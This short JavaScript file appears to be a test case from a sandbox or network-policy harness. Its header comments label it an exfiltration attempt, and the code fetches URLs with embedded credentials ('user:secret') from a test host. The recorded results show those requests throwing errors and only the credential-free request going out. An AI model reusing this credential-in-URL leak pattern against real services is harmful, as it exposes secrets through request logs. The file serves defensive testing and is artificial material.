// class: exfiltration
// tries: to send credentials in a URL, which a log would show
// ending: value ["TypeError","TypeError","TypeError",200]
// tools: []
// outbound: [{"method":"GET","url":"http://a.test/"}]
// setting: function

const got = [];
for (const url of ['http://user:secret@a.test/', 'http://user@a.test/', 'http://:secret@a.test/', 'http://@a.test/']) {
  try { got.push((await fetch(url)).status); } catch (error) { got.push(error.name); }
}
return got;
